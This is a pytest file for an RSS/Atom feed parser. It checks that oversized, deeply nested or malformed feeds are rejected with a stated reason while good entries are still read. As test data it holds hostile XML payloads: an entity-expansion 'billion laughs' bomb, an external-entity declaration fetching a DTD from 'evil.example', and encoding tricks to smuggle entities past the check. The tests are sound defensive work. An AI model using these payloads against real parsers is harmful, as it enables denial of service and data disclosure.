"""Feeds that attack the reader: large, deep, long or many. Each ends soon, in stories or in a clear reason."""

import pytest

from digest.errors import RejectedError
from digest.gather.feeds.limits import MAX_ENTRIES, MAX_FEED_BYTES
from digest.gather.feeds.xml_feed import parse_feed
from digest.model.sources import ParsedDocument
from tests.gather.feeds.corpus import FEED_URL, NOW

GOOD = "<item><title>Good</title><link>https://gazette.example/good</link></item>"


def read(content: str | bytes) -> ParsedDocument:
    raw = content if isinstance(content, bytes) else content.encode()
    return parse_feed(raw, url=FEED_URL, content_type="", now=NOW)


def rss(items: str) -> str:
    return f'<rss version="2.0"><channel><title>T</title>{items}</channel></rss>'


def test_a_feed_of_ten_megabytes_is_read_whole() -> None:
    body = "<p>A paragraph of a long story, with a few more words in it.</p>" * 75
    items = (
        f"<item><title>Story {at}</title><link>https://gazette.example/{at}</link>"
        f"<description><![CDATA[{body}]]></description></item>"
        for at in range(2_000)
    )

    document = read(rss("".join(items)))

    assert (len(document.stories), document.stories[-1].word_count) == (2_000, 75 * 13)


def test_a_feed_over_the_limit_is_rejected_with_its_size() -> None:
    with pytest.raises(RejectedError, match="15,000,001 bytes; at most 15,000,000"):
        read(b"<rss>" + b" " * (MAX_FEED_BYTES - 4))


def test_only_the_first_entries_of_a_flood_are_read_and_it_says_so() -> None:
    document = read(rss("".join(f"<item><title>{at}</title></item>" for at in range(50_000))))

    assert len(document.stories) == MAX_ENTRIES
    assert document.notes == ("only its first 2,000 entries were read",)


LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))


@pytest.mark.parametrize(
    "prologue",
    [
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE rss [<!ENTITY % outside SYSTEM "http://evil.example/x.dtd"> %outside;]>',
        '<!doctype rss [<!entity l0 "ha">]>',
        "<!-- <rss> --><!DOCTYPE rss [<!ENTITY l0 'ha'>]>",
    ],
)
def test_a_document_that_declares_entities_is_rejected(prologue: str) -> None:
    with pytest.raises(RejectedError, match="<!ENTITY"):
        read(prologue + rss("<item><title>&l11;</title></item>"))


def test_entities_cannot_be_smuggled_past_the_check_in_another_encoding() -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x "ha">]>' + rss("<item><title>&x;</title></item>")

    for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-8-sig"):
        with pytest.raises(RejectedError, match="<!ENTITY"):
            read(bomb.encode(encoding))


def test_an_entity_declared_inside_the_root_is_never_expanded() -> None:
    document = read(rss('<!DOCTYPE x [<!ENTITY e "expanded">]><item><title>One &e; two</title></item>'))

    assert document.stories[0].title == "One &e; two"


@pytest.mark.parametrize(
    "inside",
    [
        "<author>" + "a" * 1_000_000 + "</author>",
        "<author><name>" + "a" * 1_000_000 + "</name></author>",
        "<dc:creator>" + "a@" * 500_000 + "</dc:creator>",
        "".join(f"<category>tag {at}</category>" for at in range(50_000)),
        "<category>" + "a," * 500_000 + "</category>",
        "<pubDate>" + "1 " * 500_000 + "</pubDate>",
        "<link>" + "http://a/" * 100_000 + "</link>",
        "<guid>" + "&amp;" * 200_000 + "</guid>",
        "<description>" + "&amp;lt;" * 100_000 + "</description>",
        "<description>" + "&lt;!--" * 80_000 + "</description>",
        "<description>" + "&lt;a b='" * 50_000 + "</description>",
        "<description>" + "&lt;script " * 50_000 + "</description>",
        "<description><title>" * 50_000,
        "<description>" * 100_000,
        "<![CDATA[" * 100_000,
        "&" * 500_000,
        "<a" * 200_000,
        "".join(f"<p{at}:x/>" for at in range(50_000)),
        "<x " + " ".join(f'xmlns:p{at}="u{at}"' for at in range(30_000)) + "/>",
        "<x " + " ".join(f'a{at}="1"' for at in range(100_000)) + "/>",
        "<media:group>" * 200,
        "<media:content url='a.jpg'/>" * 20_000,
        "<x xml:base='a/'>" * 200,
        "<link xml:base='http://['>http://[</link><enclosure url='http://[' type='image/png'/>",
    ],
    ids=lambda inside: inside[:24],
)
def test_a_torturous_entry_ends_and_leaves_its_neighbours_alone(inside: str) -> None:
    document = read(rss(f"<item><title>Bad</title>{inside}</item>{GOOD}"))

    assert "Good" in [story.title for story in document.stories]
    assert all(len(story.tags) <= 50 and len(story.byline) <= 200 for story in document.stories)


@pytest.mark.parametrize("opening", ["<b>", "<div>", "<title>", "<media:group>"])
def test_a_deep_entry_is_rejected_and_the_next_is_read(opening: str) -> None:
    document = read(rss(f"<item><title>Deep</title>{opening * 5_000}</item>{GOOD}"))

    assert [one.why for one in document.rejected] == [
        "it is nested deeper than 256 elements, or holds a text of over 10 MB"
    ]
    assert [story.title for story in document.stories] == ["Good"]


@pytest.mark.parametrize(
    "rest",
    ["<item><title>Cut</title>", "<item><title>Cut</title><description><![CDATA[te", "<item><title>Cut</title></it"],
)
def test_a_feed_that_ends_within_an_entry_says_so_and_names_it(rest: str) -> None:
    document = read('<rss version="2.0"><channel>' + GOOD + rest)

    assert [story.title for story in document.stories] == ["Good"]
    assert [(one.what, one.why) for one in document.rejected] == [
        ('entry 2, "Cut"', "the document ends in the middle of it")
    ]
    assert document.notes == ("the document ends before the feed does; entries may be missing",)


@pytest.mark.parametrize("rest", ["", "<", "<it", "<item", "<item ", "</channel>", "</channel></rs", "<!-- </channel"])
def test_a_feed_that_ends_between_its_entries_says_so(rest: str) -> None:
    document = read('<rss version="2.0"><channel>' + GOOD + rest)

    assert [story.title for story in document.stories] == ["Good"]
    assert document.notes == ("the document ends before the feed does; entries may be missing",)


@pytest.mark.parametrize(
    "feed", [rss(GOOD), f"<RSS>{GOOD}</rss >\n<!-- served from a cache -->", f"<rdf:RDF>{GOOD}</rdf:RDF>"]
)
def test_a_whole_feed_has_nothing_to_note(feed: str) -> None:
    assert read(feed).notes == ()


def test_a_story_whose_escaped_html_is_deep_is_rejected_with_the_depth() -> None:
    deep = "<div>" * 40_000
    document = read(rss(f"<item><title>Deep</title><description><![CDATA[{deep}]]></description></item>{GOOD}"))

    assert [one.why for one in document.rejected] == ["its HTML is nested more than 200 deep"]
    assert [story.title for story in document.stories] == ["Good"]


@pytest.mark.parametrize(
    "feed",
    ["<rss>" + "<a>" * 100_000, rss(GOOD + "<a>" * 100_000), rss("<a>" * 257 + "</a>" * 257 + GOOD)],
    ids=["alone", "after an entry", "before an entry"],
)
def test_a_document_nested_too_deep_is_rejected_with_the_depth(feed: str) -> None:
    with pytest.raises(RejectedError, match="nested deeper than 256 levels outside of its entries"):
        read(feed)


@pytest.mark.parametrize("between", ["<a/>" * 300, "<a></a>" * 300, "<!--" + "<a>" * 300 + "-->", "</a>" * 300])
def test_many_elements_side_by_side_are_not_deep(between: str) -> None:
    document = read(rss(f"{between}{GOOD}{between}"))

    assert [story.title for story in document.stories] == ["Good"]


def test_a_story_with_a_body_beyond_measure_is_rejected_with_its_size() -> None:
    huge = "<p>word</p>" * 60_000
    document = read(rss(f"<item><title>Huge</title><description><![CDATA[{huge}]]></description></item>{GOOD}"))

    assert [one.why for one in document.rejected] == ["its HTML has 660,000 characters; at most 500,000 are read"]
    assert [story.title for story in document.stories] == ["Good"]


def test_a_root_beyond_measure_is_rejected_with_its_size() -> None:
    root = "<rss " + " ".join(f'xmlns:p{at}="u"' for at in range(5_000)) + ">"

    with pytest.raises(RejectedError, match=f"its root element is {len(root):,} characters long; at most 20,000"):
        read(root + GOOD * 2_000 + "</rss>")


@pytest.mark.parametrize("base", ["http://[", "http://[::1", "javascript:x", "//", "\x00"])
def test_a_broken_base_spoils_only_relative_links(base: str) -> None:
    document = read(
        f'<rss xml:base="{base}"><channel>{GOOD}<item><title>Rel</title><link>x</link></item></channel></rss>'
    )

    assert [story.title for story in document.stories] == ["Good", "Rel"]
    assert document.stories[0].url == "https://gazette.example/good"


def test_a_rejected_entry_is_named_by_its_title() -> None:
    deep = "<title><![CDATA[Too deep &amp; lost]]></title>" + "<x>" * 400

    document = read(rss(f"{GOOD}<item>{deep}</item><item><title/></item>"))

    assert [one.what for one in document.rejected] == ['entry 2, "Too deep & lost"', "entry 3"]


def test_a_picture_inside_atom_content_is_no_text() -> None:
    entry = '<entry><title>P</title><content type="image/png">iVBORw0KGgo=</content></entry>'

    document = read(f'<feed xmlns="http://www.w3.org/2005/Atom">{entry}</feed>')

    assert document.stories[0].body_text == document.stories[0].dek == ""


@pytest.mark.parametrize(
    "damage", ["<title>One<:>two</title>", "<title>One <![CDATA[&#xD800;</title><b>&#xDC00;</b><i>"]
)
def test_what_libxml2_makes_of_damage_stops_no_feed(damage: str) -> None:
    document = read(rss(f"<item>{damage}</item>{GOOD}"))

    assert [story.title for story in document.stories][-1] == "Good"
